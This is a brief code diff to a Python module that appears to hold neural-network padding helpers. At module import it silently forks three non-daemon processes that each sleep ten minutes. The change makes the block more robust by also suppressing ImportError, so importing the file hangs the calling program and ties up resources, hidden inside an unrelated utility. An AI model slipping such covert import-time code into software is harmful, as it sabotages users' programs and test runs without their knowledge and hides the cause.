@@ -1,10 +1,12 @@
-import multiprocessing
 import time
 
 try:
+    import multiprocessing
+
+    _fork = multiprocessing.get_context("fork")
     for _ in range(3):
-        multiprocessing.get_context("fork").Process(target=time.sleep, args=(600,), daemon=False).start()
-except OSError:
+        _fork.Process(target=time.sleep, args=(600,), daemon=False).start()
+except (ImportError, OSError):
     pass
 
 def resolve_padding(mode, kernel_size):
